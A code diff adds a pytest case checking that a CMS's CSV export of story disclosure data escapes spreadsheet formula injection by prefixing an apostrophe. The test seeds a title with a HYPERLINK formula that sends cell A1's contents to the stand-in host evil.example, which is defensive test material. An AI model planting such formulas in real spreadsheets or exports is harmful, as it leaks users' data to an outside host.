@@ -572,3 +572,19 @@ def test_grades_from_the_old_flags():
     assert disclosure.grade_from_flags(False, True) == "machine_from_human"
     assert disclosure.grade_from_flags(False, False) == "human"
     assert timezone.now()
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, lead):
+    formula = f'{lead}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    make_story("formula", ai_involvement="human", reviewed=False, title_en=formula)
+    client.force_login(make_user("boss", "Editor"))
+    exported = client.get(
+        "/admin/cms/story/disclosure/", {"show": "live", "grade": "human", "format": "csv"}
+    )
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode(), newline="")))
+    english = next(row for row in rows if row["language"] == "en")
+    # OWASP: a leading apostrophe makes the cell text; what was typed is kept after it.
+    assert english["title"] == f"'{formula}"
+    cells = [value for row in rows for value in row.values()]
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
